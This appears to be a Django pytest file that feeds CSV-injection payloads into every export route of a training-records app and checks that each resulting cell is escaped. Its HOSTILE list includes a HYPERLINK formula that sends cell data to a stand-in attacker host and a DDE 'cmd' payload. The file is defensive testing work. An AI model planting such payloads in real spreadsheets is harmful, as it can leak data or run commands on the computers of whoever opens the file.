"""No export turns what a person typed into a spreadsheet formula (CSV injection).

Every export view is listed in EXPORTS and a test checks the list against the URL resolver, so a
new export is covered the day it is routed. Each is fed a hostile trainee (and supervisor, and
training title) and every CSV cell and XLSX cell that came from that input is checked.
"""

import csv
import io
import zipfile
from http import HTTPStatus
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.auth import sign_in
from tests.cohorts.factories import CohortFactory
from tests.competencies.factories import TrainingRecordFactory
from tests.factories import UserFactory
from tests.reflective_logs.factories import ReflectiveLogFactory, SupervisionSessionFactory
from tests.urlwalk import routes
from training.core.tabular import FORMULA_PREFIXES, safe_text
from training.readiness import services as readiness_services

pytestmark = pytest.mark.django_db

MARK = "Zq"  # every hostile value carries it, so its cells can be found in any export
HOSTILE = [
    f'=HYPERLINK("http://evil.example/?leak="&A1,"{MARK}")',
    f"+1+cmd|' /C calc'!{MARK}",
    f"-2+3{MARK}",
    f"@SUM(1+1){MARK}",
    f"\t=1+1{MARK}",
    f"\r=1+1{MARK}",
    f"＝1+1{MARK}",  # noqa: RUF001 - full-width equals sign
    f"＋1{MARK}",  # noqa: RUF001
]


def _hostile_people(value):
    trainee = UserFactory(trainee=True, first_name=value, last_name=value)
    supervisor = UserFactory(supervisor=True, with_mfa=True, first_name=value, last_name=value)
    return trainee, supervisor


def _cohort_export(client, value, fmt):
    trainee, supervisor = _hostile_people(value)
    coordinator = UserFactory(coordinator=True, with_mfa=True)
    cohort = CohortFactory(coordinator=coordinator, trainees=[trainee])
    from tests.factories import SupervisionAssignmentFactory

    SupervisionAssignmentFactory(supervisor=supervisor, trainee=trainee)
    sign_in(client, coordinator)
    return client.get(reverse("cohort_export", args=[cohort.pk, fmt]))


def _rsc_csv(client, value):
    trainee, supervisor = _hostile_people(value)
    ReflectiveLogFactory(
        trainee=trainee, session=SupervisionSessionFactory(provider=supervisor), state="signed_off"
    )
    sign_in(client, trainee)
    return client.get(reverse("reflective_logs:export", args=["csv"]))


def _portfolio(client, value):
    trainee, supervisor = _hostile_people(value)
    TrainingRecordFactory(trainee=trainee, title=value, sponsor=value)
    ReflectiveLogFactory(
        trainee=trainee, session=SupervisionSessionFactory(provider=supervisor), state="signed_off"
    )
    export = readiness_services.portfolio_request(trainee=trainee)
    readiness_services.portfolio_build(export_id=export.pk)
    sign_in(client, trainee)
    return client.get(reverse("readiness_portfolio_download", args=[export.pk]))


def _packet(client, value):
    from training.readiness import packet

    trainee, supervisor = _hostile_people(value)
    TrainingRecordFactory(trainee=trainee, title=value, sponsor=value)
    ReflectiveLogFactory(
        trainee=trainee, session=SupervisionSessionFactory(provider=supervisor), state="signed_off"
    )
    export = packet.packet_request(trainee=trainee, actor=trainee)
    packet.packet_build(export_id=export.pk)
    sign_in(client, trainee)
    return client.get(reverse("readiness_packet_download", args=[export.pk]))


# route name -> (format, fetch(client, hostile value) -> response)
EXPORTS = {
    "cohort_export csv": ("csv", lambda c, v: _cohort_export(c, v, "csv")),
    "cohort_export xlsx": ("xlsx", lambda c, v: _cohort_export(c, v, "xlsx")),
    "reflective_logs:export csv": ("csv", _rsc_csv),
    "readiness_portfolio_download": ("zip", _portfolio),
    "readiness_packet_download": ("zip", _packet),
}
# Export routes with no table (a PDF) or that answer 404 for that format.
NOT_TABULAR = {"reflective_logs:export pdf", "reflective_logs:export xlsx", "cohort_export pdf"}


def _body(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def _csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode())) for cell in row]


def _assert_csv_safe(data: bytes, value: str) -> int:
    cells = [cell for cell in _csv_cells(data) if MARK in cell]
    for cell in cells:
        assert not cell.startswith(FORMULA_PREFIXES), cell
        assert cell.startswith("'") or not value.startswith(FORMULA_PREFIXES), cell
    return len(cells)


def _assert_xlsx_safe(data: bytes) -> int:
    workbook = load_workbook(io.BytesIO(data))
    found = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and MARK in cell.value:
                    assert cell.data_type == "s", (cell.coordinate, cell.value)
                    found += 1
    return found


def test_every_export_route_is_listed():
    """A new export URL must be added to EXPORTS (or NOT_TABULAR) to be routed at all."""
    names = set()
    for route in routes(lambda name, param: ["csv", "xlsx", "pdf"] if param == "fmt" else None,
                        limit=3):  # fmt: skip
        if "export" in route.name or route.name.endswith(("portfolio_download", "packet_download")):
            fmt = route.path.rstrip("/").rsplit("/", 1)[-1].rsplit(".", 1)[-1]
            names.add(f"{route.name} {fmt}" if fmt in ("csv", "xlsx", "pdf") else route.name)
    assert names - NOT_TABULAR == set(EXPORTS)


@pytest.mark.parametrize("value", HOSTILE, ids=range(len(HOSTILE)))
@pytest.mark.parametrize("export", EXPORTS, ids=str)
def test_hostile_names_never_become_formulas(client, home_page, export, value):
    fmt, fetch = EXPORTS[export]
    response = fetch(client, value)
    assert response.status_code == HTTPStatus.OK
    data = _body(response)
    if fmt == "csv":
        found = _assert_csv_safe(data, value)
    elif fmt == "xlsx":
        found = _assert_xlsx_safe(data)
    else:
        found = 0
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            for name in archive.namelist():
                if name.endswith(".csv"):
                    found += _assert_csv_safe(archive.read(name), value)
    assert found, "the hostile value should appear in the export"


def test_the_xlsx_shows_the_value_exactly_as_typed(client, home_page):
    value = HOSTILE[0]
    data = _body(_cohort_export(client, value, "xlsx"))
    workbook = load_workbook(io.BytesIO(data))
    assert f"{value} {value}" in [c.value for row in workbook.active.iter_rows() for c in row]


def test_plain_numbers_and_text_are_left_alone():
    assert safe_text(-1.5) == "-1.5"
    assert safe_text("-3") == "-3"
    assert safe_text("Ana") == "Ana"
    assert safe_text(None) == ""
    assert safe_text("=1") == "'=1"


def test_no_module_writes_csv_or_xlsx_without_the_safe_cell_helper():
    """The class: csv.writer and worksheet appends happen only through training/core/tabular.py."""
    root = Path(__file__).resolve().parents[2] / "training"
    offenders = []
    for path in root.rglob("*.py"):
        if path.name == "tabular.py" or "migrations" in path.parts:
            continue
        text = path.read_text()
        if "csv.writer(" in text or "csv.DictWriter(" in text:
            offenders.append(str(path))
        if "openpyxl" in text and "xlsx_row" not in text:
            offenders.append(str(path))
    assert offenders == []
